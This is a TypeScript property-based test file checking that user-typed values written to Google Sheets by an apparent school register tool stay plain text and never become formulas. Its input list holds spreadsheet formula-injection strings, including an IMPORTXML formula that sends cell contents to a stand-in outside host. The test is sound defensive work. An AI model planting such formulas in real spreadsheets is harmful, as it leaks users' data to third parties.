// Whatever a person typed is written as the text it is: no formula, number, day or link comes of it.
import fc from 'fast-check';
import { afterEach, describe, expect, test } from 'vitest';

import { memoryMailer } from '../../functions/adapters/mail/memory.ts';
import { keepable } from '../../functions/adapters/workbook/checked-changes.ts';
import { makeSheets } from '../../functions/adapters/workbook/google-sheets.ts';
import { googleAccess } from '../../functions/adapters/google/access.ts';
import type { Cell } from '../../functions/domain/kit/cell.ts';
import { layouts } from '../../functions/domain/provision.ts';
import { registers } from '../../functions/domain/registers/index.ts';
import { dailyRun } from '../../functions/run.ts';
import { sampleSchool } from '../../functions/sample/index.ts';
import {
  closeStandIns,
  placeWith,
  set,
  smallWorkbook,
  type SheetsPlace,
} from './google-sheets-fixture.ts';
import { spreadsheetAt } from './sheets-looks.ts';

afterEach(closeStandIns);

/** What a spreadsheet would make something of, were it typed into one. */
const tempting = [
  '=1+1',
  '=HYPERLINK("https://example.com","按這裡")',
  '=IMPORTXML("https://example.com/?"&A1,"//a")',
  '+886-2-1234',
  '-1',
  '@SUM(A1)',
  "'=1+1",
  "'007",
  '007',
  '1e5',
  '50%',
  '$1,200',
  '1/2',
  '115/3/5',
  '2026-03-05 08:00',
  '8:30',
  'TRUE',
  'false',
  '#N/A',
  '#REF!',
  'https://example.com',
  'someone@example.com',
  '\t=1+1',
  '\n=1+1',
  '＝1+1',
  '{1,2}',
  ' ',
  '1',
];

const anyText = fc.oneof(
  fc.constantFrom(...tempting),
  fc.string({ unit: 'grapheme' }),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', "'", '\t=', '"'), fc.string({ unit: 'binary' }))
    .map((parts) => parts.join('')),
  fc.integer().map(String),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
);

type Entered = Readonly<Record<string, unknown>> | undefined;

const enteredIn = (place: SheetsPlace): readonly Entered[] =>
  spreadsheetAt(place).sheets.flatMap(({ grid }) =>
    grid.rows.flatMap((row) => (row ?? []).map((cell) => cell?.userEnteredValue)),
  );

const formulasIn = (place: SheetsPlace): readonly Entered[] =>
  enteredIn(place).filter((entered) => entered !== undefined && 'formulaValue' in entered);

describe('texts', () => {
  test.each(tempting)('%j is a text, and read back it is the same', async (text) => {
    const place = await placeWith(smallWorkbook);
    await place.store().write([set(2, 1, text)]);
    const [sheet] = spreadsheetAt(place).sheets;
    expect(sheet?.grid.rows[1]?.[0]?.userEnteredValue).toStrictEqual({ stringValue: text });
    expect((await place.store().read()).sheets[0]?.rows[1]?.[0]).toBe(text);
  });

  test('of any kind are written as texts and read back as they are kept', async () => {
    const place = await placeWith({ sheets: [{ name: '清冊', rows: [] }] });
    await fc.assert(
      fc.asyncProperty(fc.array(anyText, { minLength: 1, maxLength: 40 }), async (texts) => {
        await place.store().write(texts.map((text, index) => set(index + 1, 1, text)));
        const read = (await place.store().read()).sheets[0]?.rows ?? [];
        const kept: readonly Cell[] = texts.map(keepable);
        expect(kept.map((_, index) => read[index]?.[0] ?? null)).toStrictEqual(kept);
        expect(formulasIn(place)).toStrictEqual([]);
        for (const entered of enteredIn(place).filter((one) => one !== undefined))
          expect(Object.keys(entered)).toStrictEqual(['stringValue']);
      }),
      { numRuns: 40 },
    );
  });

  test('that a new workbook starts with stay texts, too', async () => {
    const place = await placeWith({ sheets: [{ name: '工作表1', rows: [] }] });
    const tabs = layouts.filter(({ sheet }) => sheet === registers.people.sheet);
    const access = googleAccess({ ZIANBU_GOOGLE_ORIGIN: place.standIn.origin });
    const rows = tempting.map((text) => [text, text]);
    const contents = { sheets: [{ name: registers.people.sheet, rows }] };
    await makeSheets(place.address, tabs, contents, { access, patience: place.patience });
    expect(place.standIn.workbook(place.id).sheets[0]?.rows.slice(1)).toStrictEqual(rows);
    expect(formulasIn(place)).toStrictEqual([]);
  });
});

/** The sample school with a tempting text in every cell of text that people fill in, one after the other. */
function temptingSchool() {
  let next = 0;
  const isOfPeople = (name: string): boolean =>
    Object.values(registers).some(({ sheet, filledBy }) => sheet === name && filledBy === 'people');
  const sheets = sampleSchool.sheets.map(({ name, rows }) => ({
    name,
    rows: rows.map((row, at) =>
      row.map((cell) => {
        if (at === 0 || name === '設定' || !isOfPeople(name) || typeof cell !== 'string')
          return cell;
        next += 1;
        return next % 3 === 0 ? (tempting[next % tempting.length] ?? cell) : cell;
      }),
    ),
  }));
  return { sheets };
}

test('a run that quotes them in its findings, duties and letters makes no formula of them', async () => {
  const place = await placeWith(temptingSchool());
  const mailer = memoryMailer();
  await dailyRun({ store: place.store(), mailer, now: '2026-11-10T08:00', holder: 'run' });
  const findings = place.standIn.workbook(place.id).sheets.find(({ name }) => name === '檢核結果');
  const said = JSON.stringify(findings?.rows);
  expect(said).toContain('=1+1');
  expect(said).toContain('IMPORTXML');
  expect(formulasIn(place)).toStrictEqual([]);
  // Nothing that was sent would be read as typed in: only updateCells, and no `formulaValue` in any of it.
  const bodies = place.standIn.requests.map(({ body }) => body);
  expect(bodies.filter((body) => /formulaValue|USER_ENTERED|pasteData/u.test(body))).toStrictEqual(
    [],
  );
});
